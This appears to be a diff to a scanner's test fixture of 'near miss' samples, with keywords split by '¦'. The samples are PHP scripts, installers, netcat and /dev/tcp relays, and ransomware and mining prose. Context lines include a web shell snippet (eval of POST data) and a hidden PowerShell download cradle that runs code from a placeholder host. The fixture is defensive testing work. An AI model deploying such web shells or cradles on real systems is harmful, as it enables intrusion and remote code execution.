@@ -8,6 +8,12 @@ export const nearMisses: Record<string, string | Uint8Array> = {
   'template.php': whole(
     '<?php $out = ev¦al($template); shell_¦exec("git status"); passt¦hru("ls"); proc_¦open("convert", [], $p);\n',
   ),
+  'thumbnail.php': whole(
+    '<?php\n$file = basename($_GE¦T["file"]);\nshell_¦exec("convert " . escapeshellarg($file) . " thumb.png");\n',
+  ),
+  'actions.php': whole(
+    '<?php\n$action = $_PO¦ST["action"];\nif (in_array($action, ["start", "stop"], true)) { sys¦tem($commands[$action]); }\n',
+  ),
   'about-php.md': whole(
     `# Web shells\n${prose(900)}\n\`\`\`php\n<?php ev¦al($_PO¦ST["x"]); ev¦al(gzin¦flate(base64_¦decode("")));\n\`\`\`\n`,
   ),
@@ -20,6 +26,12 @@ export const nearMisses: Record<string, string | Uint8Array> = {
   ),
   'install-chocolatey.md': whole(
     "Run: Set-ExecutionPolicy Byp¦ass -Scope Process; ie¦x ((New-Object System.Net.Web¦Client).Download¦String('https://community.chocolatey.org/install.ps1'))",
+  ),
+  'install-tool.ps1': whole(
+    'Invoke-WebReq¦uest https://example.org/tool.msi -OutFile $env:TEMP\\\\tool.msi\nStart-Proc¦ess msiexec -ArgumentList \'/i\', "$env:TEMP\\\\tool.msi" -Wait\n',
+  ),
+  'privacy.txt': whole(
+    'We encrypt your data. Contact us by e-mail to correct or recover your data. We never publish it or pass it to a third party, except to law enforcement. Payment is by card; we guarantee your rights.',
   ),
   'about-cradles.md': whole(
     `${prose(3000)}power¦shell -no¦p -w hid¦den -c "IE¦X (New-Object Net.Web¦Client).Download¦String('http://host/a')"\n${prose(1000)}`,
@@ -61,6 +73,8 @@ export const nearMisses: Record<string, string | Uint8Array> = {
   'about-mining.md': whole(
     'Miners speak strat¦um+tcp:// to a pool; xm¦rig has the option --donate-¦level and runs with no¦hup.',
   ),
+  'proxy.sh': whole('#!/bin/bash\nmkf¦ifo /tmp/back\nn¦c -l 8080 < /tmp/back | n¦c 127.0.0.1 80 > /tmp/back\n'),
+  'http.sh': whole('#!/bin/bash\nexec 3<>/de¦v/tcp/127.0.0.1/80\nprintf "GET / HTTP/1.0\\r\\n\\r\\n" >&3\ncat <&3\n'),
   'news.txt': whole(
     'The city says that its fi¦les have been encrypted by criminals who ask for bit¦coin; backups exist.',
   ),
